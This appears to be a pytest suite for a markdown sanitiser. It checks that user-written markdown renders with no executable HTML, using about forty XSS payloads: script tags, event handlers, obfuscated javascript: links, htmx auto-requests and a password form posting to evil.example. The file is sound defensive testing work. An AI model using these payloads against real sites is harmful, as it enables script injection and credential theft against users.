"""Markdown written by one person is shown to others: nothing executable may survive."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, render_markdown

SAFE_SCHEMES = ("", "http:", "https:", "mailto:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = Collector()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_nothing_executable(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed, f"{name}= on <{tag}> survived in {html!r}"
            assert not name.startswith(("on", "hx-", "data-", "style")), html
            if name in URL_ATTRIBUTES and value:
                assert url_scheme(value) in SAFE_SCHEMES, f"{value!r} survived in {html!r}"
    assert "<script" not in html.lower()


def url_scheme(url: str) -> str:
    """The scheme a browser finds in an attribute's URL (the WHATWG URL parser drops tabs
    and newlines anywhere, and C0 controls and spaces at both ends); "" when relative."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21)))).lower()
    found = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return found.group(0) if found else ""


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(document.cookie))",
    "[click me](jav&#x61;script:alert(1))",
    "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    '<a href="  javascript:alert(1)">spaced</a>',
    '<a href="java\tscript:alert(1)">tabbed</a>',
    "[x](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "![pixel](https://tracker.example/pixel.gif)",
    '<div hx-get="/admin/" hx-trigger="load" hx-swap="outerHTML">loads itself</div>',
    '<button hx-post="/reflections/1/delete/" hx-trigger="load">x</button>',
    '<p data-hx-get="/x" data-hx-trigger="load">prefixed htmx</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body { display: none }</style>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://example.org" onclick="alert(1)" onmouseover="alert(2)">hover</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">',
    "<!-- <script>alert(1)</script> -->",
    '<p id="main" name="csrfmiddlewaretoken" class="message">clobber</p>',
    '<video poster="javascript:alert(1)"><source src="x" onerror="alert(1)"></video>',
    '<a href="&#x6a;avascript&colon;alert(1)">entity colon</a>',
    "```html\n<script>alert(1)</script>\n```",
    "<template><script>alert(1)</script></template>",
    '<textarea><img src=x onerror="alert(1)"></textarea>',
    "<isindex type=image src=1 onerror=alert(1)>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_renders_with_nothing_executable_left(payload: str) -> None:
    assert_nothing_executable(str(render_markdown(payload)))


def test_there_are_at_least_twenty_hostile_payloads() -> None:
    assert len(HOSTILE) >= 20


def test_ordinary_markdown_keeps_its_formatting() -> None:
    html = str(
        render_markdown(
            "## What I learned\n\n**Listen** first, *then* act.\n\n- one\n- two\n\n"
            "> a quote\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        )
    )
    for fragment in (
        "<h2>",
        "<strong>Listen</strong>",
        "<em>then</em>",
        "<li>one</li>",
        "<blockquote>",
        "<code>code</code>",
        "<table>",
    ):
        assert fragment in html


def test_links_keep_safe_addresses_and_get_noopener_noreferrer_nofollow() -> None:
    html = str(render_markdown("[the charter](https://intranet.example/charter)"))
    assert 'href="https://intranet.example/charter"' in html
    assert f'rel="{LINK_REL}"' in html
    assert LINK_REL == "noopener noreferrer nofollow"


def test_mail_links_are_kept() -> None:
    assert 'href="mailto:coach@example.org"' in str(render_markdown("<mailto:coach@example.org>"))


def test_text_that_looks_like_html_is_shown_as_text_inside_code() -> None:
    html = str(render_markdown("`<script>alert(1)</script>`"))
    assert "&lt;script&gt;" in html
    assert_nothing_executable(html)


def test_line_breaks_inside_a_paragraph_are_kept() -> None:
    assert "<br>" in str(render_markdown("first line\nsecond line"))


def test_empty_text_renders_as_nothing() -> None:
    assert str(render_markdown("")) == ""


FRAGMENTS = st.sampled_from(
    [
        "<",
        ">",
        "/",
        '"',
        "'",
        "=",
        " ",
        "\n",
        "script",
        "img",
        "svg",
        "a",
        "href",
        "src",
        "onerror",
        "onload",
        "hx-get",
        "style",
        "javascript:",
        "data:",
        "&#x61;",
        "&colon;",
        "alert(1)",
        "[x](",
        ")",
        "`",
        "iframe",
        "<!--",
        "-->",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_any_mix_of_dangerous_fragments_renders_safely(text: str) -> None:
    assert_nothing_executable(str(render_markdown(text)))


@pytest.mark.parametrize(
    "dangerous",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<div hx-get="/admin/" hx-trigger="load">x</div>',
        '<p style="color:red">x</p>',
        "<script>alert(1)</script>",
        '<a href="data:text/html,x">x</a>',
    ],
)
def test_the_check_itself_catches_what_it_looks_for(dangerous: str) -> None:
    with pytest.raises(AssertionError):
        assert_nothing_executable(dangerous)
